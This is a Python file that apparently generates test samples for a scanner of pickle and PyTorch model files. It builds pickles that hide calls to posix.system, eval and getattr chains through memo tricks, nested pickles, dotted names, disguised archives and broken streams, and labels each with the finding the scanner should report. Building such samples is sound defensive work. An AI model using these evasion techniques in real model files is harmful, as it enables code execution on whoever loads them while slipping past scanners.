"""Calls hidden from scanners: by memo and stack tricks, inside other pickles, behind odd names and containers."""
import exec_attacks
import tar_forge as tar
import zip_forge as zf
from pickle_asm import (ADDITEMS, BUILD, DUP, EMPTY_SET, MARK, MEMOIZE, POP, POP_MARK, REDUCE, SETITEM, STACK_GLOBAL,
                        STOP, call, code, frame, get, glob, inst, latin1_bytes, new, obj, persistent, pickle, proto,
                        put, py2_str, short_str, stack_glob, val)
from torch_parts import (ECHO, FLOATS, MAGIC, PRINT, SYS_INFO, Sample, cls, entries, layout, legacy, legacy_storage,
                         longs, nested_bytes, parameter, script_module, script_zip, storage, tar_parts, tensor,
                         torch_tar, torch_zip)

SYSTEM = glob("posix", "system")
EVIL = call(SYSTEM, ECHO)
EVAL = call(glob("builtins", "eval"), PRINT)
GETATTR = glob("builtins", "getattr")


def rows_stack():
    """Bare pickles; the trick is in the order of the opcodes."""
    two = short_str
    yield ("memo-overwritten", 4, code(two("collections"), put(0), POP, two("posix"), put(0), POP, get(0),
           two("system"), STACK_GLOBAL, val((ECHO,)), REDUCE),
           "memo slot of the module name is overwritten before use")
    yield ("memo-swapped", 4, code(two("system"), MEMOIZE, two("posix"), MEMOIZE, POP, POP, get(1), get(0),
           STACK_GLOBAL, val((ECHO,)), REDUCE), "both names come from the memo in swapped order")
    yield ("dup-names", 4, code(two("posix"), DUP, POP, two("system"), DUP, POP, STACK_GLOBAL, val((ECHO,)), REDUCE),
           "DUP and POP between the names")
    yield ("decoy-strings", 4, code(two("posix"), two("system"), two("collections"), two("OrderedDict"), POP, POP,
           STACK_GLOBAL, val((ECHO,)), REDUCE), "the last two strings pushed are not the two on the stack")
    yield "args-first", 4, code(val((ECHO,)), put(0), POP, SYSTEM, get(0), REDUCE), "arguments wait in the memo"
    yield ("unicode-escape", 4, code(b"V\\u0070osix\n", b"Vsyst\\u0065m\n", STACK_GLOBAL, val((ECHO,)), REDUCE),
           "names written with \\u escapes")
    yield ("py2-strings", 4, code(py2_str("posix"), py2_str("system"), STACK_GLOBAL, val((ECHO,)), REDUCE),
           "names as Python 2 strings")
    yield ("long-unicode8", 4, code(b"\x8d", longs(5), b"posix", two("system"), STACK_GLOBAL, val((ECHO,)), REDUCE),
           "module name as BINUNICODE8")
    yield "popped-obj", 2, code(obj(SYSTEM, ECHO), POP, val({"a": 1})), "OBJ whose result is popped"
    yield "popped-inst", 2, code(inst("posix", "system", ECHO), POP, val({"a": 1})), "INST whose result is popped"
    yield "popped-mark", 2, code(MARK, EVIL, POP_MARK, val({"a": 1})), "a call dropped by POP_MARK"
    yield "left-below", 2, code(EVIL, val({"a": 1})), "the call's result stays under the final object"
    yield "overwritten-item", 2, code(val({"a": EVIL}), val("a"), val(1), SETITEM), "dict entry replaced after the call"
    yield "dict-key", 2, code(val({EVIL: 1})), "the call is a dict key"
    yield "set-item", 4, code(EMPTY_SET, MARK, EVIL, ADDITEMS), "the call is a set item"
    yield "frozenset-item", 4, code(MARK, EVIL, b"\x91"), "the call is a frozenset item"
    yield ("result-called", 2, code(call(glob("builtins", "eval"), "print"), val(("x",)), REDUCE),
           "the result of a call is called")
    yield "frame-second", 4, code(frame(val({"a": 1})), frame(code(POP, EVIL))), "the call sits in the second FRAME"
    yield "padded", 2, code(val("A" * 1500000), POP, EVIL), "1.5 MB of text before the call"
    yield "many-ops", 2, code(b"N0" * 300000, EVIL), "600,000 harmless opcodes before the call"
    yield ("many-globals", 2, code(*[code(glob("mynet.layers", "L%d" % i), POP) for i in range(20000)], EVIL),
           "20,000 harmless globals before the call")


def rows_known():
    """Inside arguments of globals every reader must understand; placed in a zip."""
    yield "partial", call(glob("functools", "partial"), SYSTEM, ECHO), "functools.partial over posix.system"
    yield "defaultdict", call(glob("collections", "defaultdict"), SYSTEM), "default factory"
    yield "ordereddict", call(glob("collections", "OrderedDict"), [["k", EVIL]]), "pairs of an OrderedDict"
    yield "deque", call(glob("collections", "deque"), [EVIL]), "items of a deque"
    yield "map", call(glob("builtins", "map"), SYSTEM, [ECHO]), "builtins.map over posix.system"
    yield "newobj-copyreg", call(glob("copyreg", "__newobj__"), SYSTEM, ECHO), "copyreg.__newobj__"
    yield "newobj-ex-copyreg", call(glob("copyreg", "__newobj_ex__"), SYSTEM, (ECHO,), {}), "copyreg.__newobj_ex__"
    yield ("py2-copyreg", call(glob("copy_reg", "_reconstructor"), SYSTEM, glob("__builtin__", "object"), None),
           "Python 2 spelling of copyreg")
    yield ("from-type", call(glob("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, glob("torch", "Tensor"), (ECHO,),
           {}), "rebuild function of _rebuild_from_type_v2")
    yield ("from-type-state", call(glob("torch._tensor", "_rebuild_from_type_v2"),
           glob("torch._utils", "_rebuild_tensor_v2"), cls("Tensor"),
           (storage(), 0, (4,), (1,), False, call(glob("collections", "OrderedDict"))), {"a": EVIL}),
           "state of _rebuild_from_type_v2")
    yield ("wrapper-class", call(glob("torch._utils", "_rebuild_wrapper_subclass"), SYSTEM, cls("float32"), (4,),
           (1,), 0, cls("strided"), "cpu", False), "class of _rebuild_wrapper_subclass")
    yield "hooks", tensor(hooks=EVIL), "backward hooks of a tensor"
    yield "grad-flag", tensor(grad=EVIL), "requires_grad of a tensor"
    yield "tensor-size", tensor(size=call(glob("torch", "Size"), [EVIL])), "dimension of a tensor"
    yield ("parameter-state", call(glob("torch._utils", "_rebuild_parameter_with_state"), tensor(), True,
           call(glob("collections", "OrderedDict")), {"a": EVIL}), "state of a parameter")
    yield "tensor-state", code(tensor(), val({"a": EVIL}), BUILD), "BUILD state of a tensor"
    yield "layout-name", call(glob("torch.serialization", "_get_layout"), EVIL), "argument of _get_layout"
    yield ("numpy-class", call(glob("numpy.core.multiarray", "_reconstruct"), SYSTEM, (0,), b"b"),
           "array class of numpy's _reconstruct")
    yield ("numpy-object", code(call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (0,),
           b"b"), val((1, (1,), call(glob("numpy", "dtype"), "O8", False, True), False, [EVIL])), BUILD),
           "element of a numpy object array")
    yield ("type-tag", call(glob("torch.jit._pickle", "restore_type_tag"), EVIL, "Dict[str, int]"),
           "value of restore_type_tag")
    yield "codecs-argument", call(glob("_codecs", "encode"), EVIL, "latin1"), "argument of _codecs.encode"
    yield "complex-argument", call(glob("builtins", "complex"), EVIL, 0.0), "argument of builtins.complex"
    yield "namespace", code(new(glob("argparse", "Namespace")), val({"lr": EVIL}), BUILD), "field of a Namespace"
    yield "parameter-data", parameter(EVIL), "the call stands where a tensor belongs"
    yield "storage-key", tensor(storage(key=EVIL)), "the call is a storage key"


def rows_names():
    """Names that reach a dangerous function through an innocent module or through attributes."""
    yield ("dotted-os", call(stack_glob("torch.serialization", "os.system"), ECHO),
           "STACK_GLOBAL with a dotted name through torch.serialization")
    yield ("dotted-sys", call(stack_glob("collections", "_sys.modules.get"), "os"),
           "dotted name through collections._sys")
    yield "dotted-posixpath", call(stack_glob("posixpath", "os.popen"), ECHO), "dotted name through posixpath"
    yield "dotted-torch", call(stack_glob("torch", "hub.load"), "x", "y"), "module torch, name hub.load"
    yield ("dotted-deep", call(stack_glob("mynet.layers", "torch.serialization.os.system"), ECHO),
           "dotted name through a user's module")
    yield "dotted-call", call(stack_glob("builtins", "eval.__call__"), PRINT), "builtins.eval.__call__"
    yield "dotted-subclasses", call(stack_glob("builtins", "object.__subclasses__")), "builtins.object.__subclasses__"
    yield ("getattr-forbidden", call(call(GETATTR, glob("os", "environ"), "get"), "PATH"),
           "getattr on a forbidden global")
    yield ("getattr-import", call(call(GETATTR, glob("builtins", "__import__"), "__call__"), "os"),
           "getattr on __import__")
    yield ("getattr-subclasses", call(call(GETATTR, glob("builtins", "object"), "__subclasses__")),
           "object.__subclasses__ through getattr, called")
    yield ("getattr-chain", call(call(GETATTR, call(GETATTR, glob("builtins", "dict"), "__class__"),
           "__subclasses__"), glob("builtins", "dict")), "two getattr steps over dunder names, called")
    yield ("getattr-globals", call(call(GETATTR, call(GETATTR, glob("collections", "namedtuple"), "__globals__"),
           "get"), "x"), "__globals__ through getattr, called")


def containers():
    """The call lies in a part of the file that is not the first pickle, or the container is unusual."""
    say = "forbidden-global"
    evil_stream = legacy({"note": EVIL}, keys=[], blobs=[])
    yield "nested-bytes", "pkl", say, pickle({"w": nested_bytes(evil_stream)}, 3), "inside _load_from_bytes"
    yield ("nested-latin1", "pkl", say, pickle({"w": call(glob("torch.storage", "_load_from_bytes"),
           latin1_bytes(evil_stream))}), "inside _load_from_bytes, bytes by _codecs.encode")
    twice = legacy({"w": nested_bytes(evil_stream)}, keys=[], blobs=[], version=3)
    yield ("nested-twice", "pkl", say, pickle({"w": nested_bytes(twice)}, 3),
           "inside _load_from_bytes inside _load_from_bytes")
    zipped = torch_zip({"note": EVIL})
    yield "nested-zip", "pkl", say, pickle({"w": nested_bytes(zipped)}, 3), "a torch zip inside _load_from_bytes"
    yield "legacy-magic", "pt", say, legacy(magic=EVAL), "legacy magic number built by eval"
    yield ("legacy-magic-plus", "pt", say, legacy(magic=code(EVIL, POP, val(MAGIC))),
           "true magic number after a call that is popped")
    yield "legacy-version", "pt", say, legacy(protocol=EVAL), "legacy protocol version built by eval"
    yield "legacy-sysinfo", "pt", say, legacy(info=dict(SYS_INFO, note=EVAL)), "call inside sys_info"
    yield "legacy-keys", "pt", say, legacy(keys=code(EVIL, POP, val(["0"]))), "call before the key list"
    yield ("legacy-module", "pt", say, legacy({"m": persistent(("module", SYSTEM, "net.py", "class Net: pass"))}),
           "class of a 'module' persistent id")
    yield "legacy-view", "pt", say, legacy({"weight": tensor(legacy_storage(view=EVIL))}), "view metadata of a storage"
    yield ("script-data", "pt", say, script_zip(script_module({"weight": tensor(), "note": EVIL})),
           "TorchScript data.pkl")
    yield ("script-constants", "pt", say, script_zip(script_module({"weight": tensor()}), (EVIL,)),
           "TorchScript constants.pkl")
    yield "tar-pickle", "tar", say, torch_tar(root={"weight": persistent("2"), "note": EVIL}), "pickle member of a tar"
    yield "tar-storages", "tar", say, torch_tar(store=(1, "cpu", SYSTEM)), "storage type in the storages member"
    yield "tar-tensors", "tar", say, torch_tar(entry=(2, 1, SYSTEM)), "tensor type in the tensors member"
    yield "tar-count", "tar", say, torch_tar(count=EVAL), "storage count built by eval"
    yield ("tar-container", "tar", say, torch_tar(root={"m": persistent((SYSTEM, "net.py", "source"))}),
           "container class persistent id of a tar")
    bad = pickle({"weight": tensor(), "note": EVIL})
    yield ("zip-deflated", "pt", say, zf.build([zf.deflated(b"archive/data.pkl", bad)] + entries(bad)[1:]),
           "deflated data.pkl")
    yield ("zip-crc-zero", "pt", say, zf.build(entries(bad, pkl={"crc": 0})),
           "data.pkl with CRC 0, that is, not computed")
    yield "zip-as-safetensors", "safetensors", say, zf.build(entries(bad)), "torch zip named .safetensors"
    yield "zip-as-png", "png", say, zf.build(entries(bad)), "torch zip named .png"
    yield "pickle-as-safetensors", "safetensors", say, pickle({"note": EVIL}), "bare pickle named .safetensors"
    yield ("pickle-then-zip", "pt", say, pickle({"note": EVIL}) + torch_zip({"weight": tensor()}),
           "bare pickle with a clean torch zip behind it")
    yield ("protocol0", "pkl", say, b"(dp0\nS'note'\np1\ncposix\nsystem\np2\n(S'" + ECHO.encode() + b"'\ntRp3\ns.",
           "protocol 0 text pickle")
    yield "protocol0-inst", "pkl", say, b"(S'" + ECHO.encode() + b"'\niposix\nsystem\n.", "protocol 0 INST"
    # The payload stands before the break: the first wrong thing is the call.
    head = code(proto(2), EVIL)
    yield "broken-truncated", "pt", say, head, "call, then the stream simply ends"
    yield "broken-opcode", "pt", say, code(head, b"\xff\xfe", STOP), "call, then an unknown opcode"
    yield "broken-memo", "pt", say, code(head, get(9), STOP), "call, then an unset memo slot"
    yield "broken-length", "pt", say, code(head, b"X\xff\xff\xff\x7f"), "call, then a string of 2 GB"
    yield ("broken-zip-pickle", "pt", say, zf.build(entries(code(head, b"\xff"))),
           "call, then an unknown opcode, in a zip")
    # The break stands before the payload: the call is never reached.
    yield "late-opcode", "pt", "bad-pickle", code(proto(2), b"\xff", EVIL, STOP), "unknown opcode before the call"
    yield "late-memo", "pt", "memo-range", code(proto(2), get(9), EVIL, STOP), "unset memo slot before the call"
    yield "late-stream", "pkl", "trailing-data", pickle({"a": 1}) + pickle(EVIL), "second pickle behind a clean one"
    yield ("late-stream-zip", "pt", "trailing-data", zf.build(entries(pickle({"weight": tensor()}) + pickle(EVIL))),
           "second pickle inside data.pkl")
    yield ("late-legacy", "pt", "trailing-data", legacy() + pickle(EVIL),
           "a sixth pickle behind the storages of a legacy file")


def extension_codes():
    for name, body in (("ext1", b"\x82\x01"), ("ext2", b"\x83\x01\x01"), ("ext4", b"\x84\x01\x01\x01\x01")):
        yield name, code(body, val((ECHO,)), REDUCE), "extension registry code, called"
        yield name + "-held", code(body), "extension registry code, only held"


def samples():
    for name, version, body, text in rows_stack():
        yield Sample("hide-" + name, "pkl", "forbidden-global", "hide", text, pickle(body, version))
    for name, body, text in rows_known():
        yield Sample("hide-" + name, "pt", "forbidden-global", "hide", text,
                     torch_zip({"weight": tensor(), "x": body}, version=3))
    for name, body, text in rows_names():
        yield Sample("hide-" + name, "pkl", "forbidden-global", "hide", text, pickle({"x": body}, 4))
    for name, ext, say, data, text in containers():
        yield Sample("hide-" + name, ext, say, "hide", text, data)
    for name, body, text in extension_codes():
        yield Sample("hide-" + name, "pkl", "forbidden-opcode", "hide", text, pickle({"x": body}))
    yield Sample("hide-ext1-zip", "pt", "forbidden-opcode", "hide", "extension registry code in a torch zip",
                 torch_zip({"weight": tensor(), "x": code(b"\x82\x05")}))
    yield Sample("hide-persid-text", "pkl", "refused-any", "hide", "PERSID text line where no persistent ids exist",
                 pickle({"x": code(b"Pposix.system\n")}))
    inert = exec_attacks.INERT
    state = code(inert, val((None, {"__reduce_ex__": SYSTEM})), BUILD)
    yield Sample("hide-slots-state", "pkl", "forbidden-global", "hide",
                 "slots part of a BUILD state holds the function", pickle({"x": state}))
    late = val([code(inert, put(0), val({"f": SYSTEM}), BUILD), get(0)])
    yield Sample("hide-shared-state", "pkl", "forbidden-global", "hide",
                 "state of a shared object holds the function", pickle({"x": late}))
    member = tar.member(b"archive/data.pkl", pickle({"note": EVIL}))
    yield Sample("hide-tar-of-zip-names", "tar", "unknown-format", "hide",
                 "tar whose members are named like a torch zip", tar.archive(member))
    parts = dict(tar_parts(), pickle=pickle({"note": EVAL}))
    gnu = tar.archive(*[tar.member(n.encode(), d, magic=b"ustar  \0") for n, d in parts.items()])
    yield Sample("hide-tar-gnu", "pth", "forbidden-global", "hide", "call in a tar with the GNU magic", gnu)
    yield Sample("hide-layout-class", "pt", "forbidden-global", "hide", "sparse layout given as a function",
                 torch_zip({"s": call(glob("torch._utils", "_rebuild_sparse_tensor"), SYSTEM,
                 (tensor(), tensor(), (4,)))}, {"0": FLOATS}))
    yield Sample("hide-unused-layout", "pt", "forbidden-global", "hide", "call beside a legal layout object",
                 torch_zip({"l": layout("strided"), "x": EVIL, "w": tensor()}))
